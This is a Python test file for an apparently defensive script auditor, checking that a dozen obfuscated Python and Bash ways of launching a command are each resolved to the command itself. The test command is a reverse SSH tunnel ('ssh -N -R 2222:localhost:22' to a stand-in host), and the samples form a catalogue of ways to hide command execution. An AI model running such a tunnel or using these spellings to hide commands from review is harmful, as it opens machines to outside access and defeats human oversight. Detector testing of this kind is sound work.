"""Spellings that the random compositions found unread: each is read now, as exactly the command that runs."""

from __future__ import annotations

import textwrap

import pytest

from auditor.model.unit import Language, Script
from auditor.read.evaluation import Evaluation

COMMAND = "ssh -N -R 2222:localhost:22 agent@203.0.113.5"
PYTHON = {
    "a subclass of Popen": """
        import subprocess
        class P(subprocess.Popen):
            pass
        P("C".split()).wait()
    """,
    "a subclass that calls its base": """
        import subprocess
        class P(subprocess.Popen):
            def __init__(self, text):
                super().__init__(text.split(), stdin=-3)
        P("C")
    """,
    "an interpreter with names of its own": """
        import code, os
        code.InteractiveInterpreter({"f": os.system}).runsource("f('C')")
    """,
    "names set through globals": """
        globals().update(o=__import__("os"))
        globals()["o"].system("C")
    """,
    "a default set through vars": """
        import os
        vars().setdefault("go", os.system)
        go("C")
    """,
    "a module made from its spec": """
        import importlib.util as u
        s = u.find_spec("os")
        m = u.module_from_spec(s)
        s.loader.exec_module(m)
        m.system("C")
    """,
    "a search through dir": """
        import os
        [getattr(os, n) for n in dir(os) if n.startswith("syste")][0]("C")
    """,
    "a search through vars": """
        import subprocess
        next(v for k, v in vars(subprocess).items() if k == "Pop" + "en")("C".split())
    """,
    "a function made of code": """
        import types
        types.FunctionType(compile("import os\\nos.system('C')", "x", "exec"), {})()
    """,
    "timed text": """
        import timeit
        timeit.timeit(setup="import os", stmt="os.system('C')", number=1)
    """,
    "profiled text": """
        import cProfile
        cProfile.run("import os; os.system('C')")
    """,
}
BASH = {
    "until with a changing condition": """
        a=('ssh -N -R 2222:localhost:22 ag' ent@203.0.113.5); b=; i=0
        until ((i == 2)); do b+=${a[i]}; ((i += 1)); done
        eval "$b"
    """,
}


def starts(language: Language, code: str) -> list[str]:
    """Read code, and give the effects that are not about hiding."""
    text = textwrap.dedent(code).replace('"C"', f'"{COMMAND}"').replace("'C'", f"'{COMMAND}'")
    effects = Evaluation(Script.of(text, language)).read_script().effects
    return [line for line in (" ".join(map(str, effect.words)) for effect in effects) if not line.startswith("hiding.")]


@pytest.mark.parametrize("name", PYTHON)
def test_python_is_read(name: str) -> None:
    assert COMMAND in starts(Language.PYTHON, PYTHON[name])


@pytest.mark.parametrize("name", BASH)
def test_bash_is_read(name: str) -> None:
    assert starts(Language.BASH, BASH[name]) == [COMMAND]
